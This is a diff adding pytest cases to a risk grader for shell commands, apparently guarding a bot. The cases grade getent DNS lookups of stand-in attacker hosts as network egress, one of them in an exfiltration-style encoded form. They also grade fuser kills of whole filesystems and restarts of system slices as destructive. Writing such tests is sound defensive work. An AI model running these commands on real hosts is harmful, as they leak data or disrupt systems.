@@ -7,7 +7,8 @@ from __future__ import annotations
 
 import pytest
 
-from tests.risk.test_risk_held_back_grades import NET, RO, grade, rules
+from bot.risk import RiskLevel
+from tests.risk.test_risk_held_back_grades import DES, NET, RO, SYS, WW, grade, rules
 
 # -- credential files of more tools, and macOS places of those already listed ----------------------------------------
 HOME_SECRETS = [
@@ -119,3 +120,65 @@ def test_reading_the_workspaces_files_of_secrets_in_clear_is_a_secret_read(
 )
 def test_encrypted_and_ordinary_neighbours_of_the_secrets_files_stay_reads(command: str) -> None:
     assert grade(command) == RO
+
+
+# -- DNS lookups through getent ----------------------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    "command",
+    [
+        "getent ahosts c2VjcmV0.evil.example",
+        "getent hosts evil.example",
+        "getent ahostsv4 x.evil.example",
+        "getent ahostsv6 x.evil.example",
+        "getent -s dns hosts x.evil.example",
+        "getent hosts 203.0.113.7",  # gethostbyaddr(3): a reverse lookup asks the resolver too
+    ],
+)
+@pytest.mark.parametrize("contained", [False, True])
+def test_getent_host_lookups_are_dns_queries(command: str, contained: bool) -> None:
+    assert grade(command, contained) == NET
+    assert "network-egress" in rules(command, contained)
+
+
+@pytest.mark.parametrize("command", ["getent passwd root", "getent group", "getent hosts", "getent services ssh"])
+def test_other_getent_databases_and_listing_hosts_stay_reads(command: str) -> None:
+    assert grade(command) == RO
+
+
+# -- host changes --------------------------------------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    "command",
+    [
+        "sudo systemctl restart user.slice",
+        "systemctl restart system.slice",
+        "systemctl try-restart system.slice",
+        "systemctl reload-or-restart session-1.scope",
+        "systemctl restart init.scope",
+        "systemctl --user restart app.slice",
+        "fuser -km /home",
+        "fuser -k -m /",
+        "fuser --kill --mount /",
+        "fuser -mk /srv",
+    ],
+)
+def test_restarting_a_slice_and_killing_every_user_of_a_filesystem_are_destructive(command: str) -> None:
+    assert grade(command) == DES
+    assert grade(command, contained=True) in (WW, SYS)
+
+
+@pytest.mark.parametrize(
+    ("command", "level"),
+    [
+        ("sudo systemctl restart nginx", SYS),
+        ("systemctl restart nginx.service", SYS),
+        ("systemctl start user.slice", SYS),
+        ("systemctl restart home.mount", SYS),  # not covered by a plain pattern (meaning.py), but no stop of all
+        ("systemctl status user.slice", RO),
+        ("fuser -k 8080/tcp", SYS),
+        ("fuser -k src/app.log", SYS),
+        ("fuser -m /home", RO),
+        ("fuser -v 8080/tcp", RO),
+    ],
+)
+def test_neighbours_of_slice_restarts_and_fuser_kills_keep_their_grade(command: str, level: RiskLevel) -> None:
+    assert grade(command) == level
